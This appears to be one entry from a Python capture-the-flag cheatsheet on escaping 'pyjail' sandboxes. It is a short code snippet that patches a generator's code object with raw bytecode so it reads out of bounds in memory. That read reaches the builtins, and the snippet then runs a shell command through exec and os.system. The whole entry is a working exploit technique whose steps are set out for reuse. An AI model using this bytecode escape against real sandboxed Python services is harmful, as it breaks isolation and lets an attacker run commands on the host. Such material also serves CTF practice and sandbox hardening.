# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (OOB read using LOAD_FAST / code.replace)
# Family: frame
# What: gi_code.replace(co_code=...) builds a function from raw bytecode to read out-of-bounds (layout is CPython-version specific)
def gen():
    yield 0

code = gen().gi_code
evil = code.replace(co_code=b"|\x17S\x00", co_argcount=0, co_nlocals=0, co_varnames=())
fn = (lambda: 0).__class__(evil, {})
fn()["exec"]("import os;os.system('id')")
